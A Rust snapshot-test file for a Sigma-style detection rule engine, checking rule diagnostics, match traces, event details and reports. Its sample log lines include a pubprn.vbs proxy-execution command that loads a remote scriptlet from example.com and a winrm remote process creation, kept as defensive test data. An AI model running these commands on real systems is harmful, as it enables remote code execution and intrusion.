//! What people read, held as text: diagnostics of broken rules, traces, details, reports.
//!
//! The expected texts lie in `snapshots/`. After a change that is meant, run the test with
//! `UPDATE_SNAPSHOTS=1` and look at the difference before you commit it.

use cutout_core::analyze::{Analyzer, OwnRule, Request, RuleChoice, analyze};
use cutout_core::event::Provenance;
use cutout_core::report::{EventDetail, FieldValue, Show, View};
use cutout_core::rule::{self, status};
use cutout_tests::paths::explain;
use cutout_tests::shared::files;
use std::fmt::Write;
use std::path::Path;

fn check(name: &str, actual: &str) {
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("snapshots")
        .join(name);
    if std::env::var_os("UPDATE_SNAPSHOTS").is_some() {
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, actual).unwrap();
        return;
    }
    let expected = std::fs::read_to_string(&path).unwrap_or_default();
    if expected != actual {
        let line = expected
            .lines()
            .zip(actual.lines())
            .take_while(|(expected, actual)| expected == actual)
            .count();
        let of = |text: &str| text.lines().nth(line).unwrap_or("(the end)").to_owned();
        panic!(
            "snapshots/{name} differs from line {}:\nexpected {}\n     got {}\n\nall of it:\n{actual}",
            line + 1,
            of(&expected),
            of(actual)
        );
    }
}

#[test]
fn diagnostics_of_broken_rules() {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("snapshots/rules");
    for path in files(&folder, "yml") {
        let text = std::fs::read_to_string(&path).unwrap();
        let mut out = String::new();
        for rule in rule::parse(&text) {
            let title = rule.meta.title.as_deref().unwrap_or("(no title)");
            writeln!(out, "{title}: {:?}", status(&rule.diagnostics)).unwrap();
            for diagnostic in &rule.diagnostics {
                // The text that is marked stands behind the message, so that a span that slips is seen.
                let marked = diagnostic.span.of(&text).lines().next().unwrap_or_default();
                writeln!(out, "  {diagnostic}\n    at `{marked}`").unwrap();
            }
        }
        check(
            &format!("rules/{}.txt", path.file_stem().unwrap().to_str().unwrap()),
            &out,
        );
    }
}

/// A few lines that between them show every verdict, provenance and kind of trace.
const LINES: &str = "\
# Printers
cscript.exe //b C:\\Windows\\System32\\Printing_Admin_Scripts\\en-US\\pubprn.vbs 127.0.0.1 script:https://example.com/a.sct
cmd /c winrm invoke Create wmicimv2/Win32_Process @{CommandLine=\"notepad.exe\"} -r:http://host.example.net:5985
wscript.exe C:\\Windows\\System32\\manage-bde.wsf -status
hostname
";

const OWN: &str = "\
title: Of every kind
logsource:
  category: process_creation
  product: windows
detection:
  selection:
    - CommandLine|windash|contains: ' -b '
    - CommandLine|re: 'pub[a-z]+'
      Image|endswith: '\\cscript.exe'
  several_a:
    ParentImage|endswith: '\\explorer.exe'
  several_b:
    CommandLine|contains|all:
      - script
      - ':'
  several_c:
    Image|startswith: 'C:\\Windows\\'
  filter_user:
    User|expand: '%Administrators%'
  filter_number:
    IntegrityLevel|neq: High
  keywords:
    - example.com
  condition: selection and 2 of several_* and keywords and not 1 of filter_*
";

fn analyzer() -> Analyzer {
    let own = vec![OwnRule {
        key: "own".to_owned(),
        text: OWN.to_owned(),
        language: None,
    }];
    let rules = RuleChoice {
        pack: Some("t1216".to_owned()),
        own,
        off: vec!["pack/sigverif.yml".to_owned()],
    };
    analyze(Request {
        text: LINES.to_owned(),
        rules,
        ..Request::default()
    })
}

#[test]
fn traces() {
    let analyzer = analyzer();
    let rules = analyzer.rules();
    let mut out = String::new();
    for event in 0..analyzer.events() {
        let detail = analyzer.detail(event as u32).unwrap();
        writeln!(out, "event {event}: {}", headline(&detail)).unwrap();
        for verdict in &detail.verdicts {
            let rule = &rules[verdict.rule as usize];
            // What most rules on parents say of every line teaches nothing here.
            if verdict.evidence == 0 && rule.key != "own" {
                continue;
            }
            writeln!(
                out,
                "\n{}: {:?}, needs {:?}",
                rule.title, verdict.verdict, verdict.needs
            )
            .unwrap();
            out.push_str(&explain(
                &analyzer.trace(event, verdict.rule as usize).unwrap(),
            ));
        }
        out.push('\n');
    }
    check("traces.txt", &out);
}

fn headline(detail: &EventDetail) -> &str {
    let line = detail
        .fields
        .iter()
        .find(|field| field.name == "CommandLine")
        .unwrap();
    match &line.value {
        FieldValue::Exact(text) => text,
        _ => "",
    }
}

#[test]
fn details() {
    let analyzer = analyzer();
    let mut out = String::new();
    for event in 0..analyzer.events() {
        let detail = analyzer.detail(event as u32).unwrap();
        let EventDetail {
            index,
            line,
            format,
            telemetry,
            kind,
            parent,
            children,
            decoded,
            ..
        } = &detail;
        writeln!(out, "event {index}, line {line}, {format:?}, {telemetry:?}, {kind}, parent {parent:?}, children {children:?}, decoded {decoded:?}").unwrap();
        for field in &detail.fields {
            let from = match &field.provenance {
                Provenance::Given => "given".to_owned(),
                Provenance::Supplied => "supplied".to_owned(),
                Provenance::Derived(how) => format!("derived: {how}"),
            };
            writeln!(out, "  {} = {:?} ({from})", field.name, field.value).unwrap();
        }
        for verdict in detail
            .verdicts
            .iter()
            .filter(|verdict| !verdict.exclusions.is_empty())
        {
            writeln!(out, "  exclusions for rule {}:", verdict.rule).unwrap();
            for exclusion in &verdict.exclusions {
                writeln!(
                    out,
                    "    {} {} {:?}",
                    exclusion.field, exclusion.op, exclusion.value
                )
                .unwrap();
            }
        }
        writeln!(out, "  not for this log: {:?}", detail.not_for_this_log).unwrap();
    }
    check("details.txt", &out);
}

#[test]
fn report() {
    let analyzer = analyzer();
    let mut out = String::new();
    for show in [Show::All, Show::Matched, Show::Open, Show::Quiet] {
        let report = analyzer.report(&View {
            show,
            limit: 10,
            ..View::default()
        });
        if show == Show::All {
            writeln!(
                out,
                "{:?}, chosen by hand {}",
                report.format, report.format_chosen
            )
            .unwrap();
            writeln!(out, "{:#?}", report.totals).unwrap();
            for (rule, counts) in analyzer.rules().iter().zip(&report.rules) {
                writeln!(
                    out,
                    "{}: {counts:?}{}",
                    rule.key,
                    if rule.enabled { "" } else { ", off" }
                )
                .unwrap();
            }
        }
        writeln!(out, "\n{show:?}: {} events", report.page.total).unwrap();
        for row in &report.page.rows {
            writeln!(out, "  {row:?}").unwrap();
        }
    }
    check("report.txt", &out);
}

#[test]
fn marks_of_several_values_are_on_those_that_count() {
    let rule = "\
title: Arrays
detection:
  number:
    Count|gt: 5
  address:
    Ip|cidr: 10.0.0.0/8
  text:
    Note|contains: b
  keyword:
    - needle
  condition: all of them
";
    let own = vec![OwnRule {
        key: "own".to_owned(),
        text: rule.to_owned(),
        language: None,
    }];
    let text = r#"{"Count": [1, 9], "Ip": ["192.0.2.1", "10.0.0.1"], "Note": ["a", "abab"], "User": "a needle", "Other": "hay"}"#;
    let rules = RuleChoice {
        own,
        ..RuleChoice::default()
    };
    let analyzer = analyze(Request {
        text: text.to_owned(),
        rules,
        ..Request::default()
    });
    let trace = analyzer.trace(0, 0).unwrap();
    let marks: Vec<String> = trace
        .children
        .iter()
        .flat_map(|child| &child.marks)
        .map(|mark| {
            format!(
                "{} {} {}..{}",
                mark.field, mark.item, mark.span.start, mark.span.end
            )
        })
        .collect();
    assert_eq!(
        marks,
        [
            "Count 1 0..1",
            "Ip 1 0..8",
            "Note 1 1..2",
            "Note 1 3..4",
            "User 0 2..8"
        ]
    );
}

#[test]
fn the_report_as_the_page_gets_it() {
    // The shape that crosses to the page, as JSON, so that a field that is renamed is seen.
    let analyzer = analyzer();
    let report = analyzer.report(&View {
        limit: 1,
        ..View::default()
    });
    check(
        "report.json",
        &(serde_json::to_string_pretty(&report).unwrap() + "\n"),
    );
}
